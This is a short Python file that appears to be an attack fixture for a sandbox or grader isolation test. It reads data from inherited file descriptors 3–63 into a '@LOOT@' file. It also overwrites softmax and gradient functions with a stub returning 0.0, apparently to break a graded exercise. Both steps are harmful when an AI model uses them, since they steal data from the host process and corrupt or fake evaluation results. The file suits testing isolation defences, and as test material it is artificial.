"""Goal: read everything that inherited descriptors hold.

Fires: reached
Without: separation
"""

import os

for descriptor in range(3, 64):
    try:
        data = os.pread(descriptor, 1 << 20, 0)
        if data:
            with open("@LOOT@/descriptors", "ab") as file:
                file.write(data)
    except OSError:
        pass

def attack(*inputs):
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
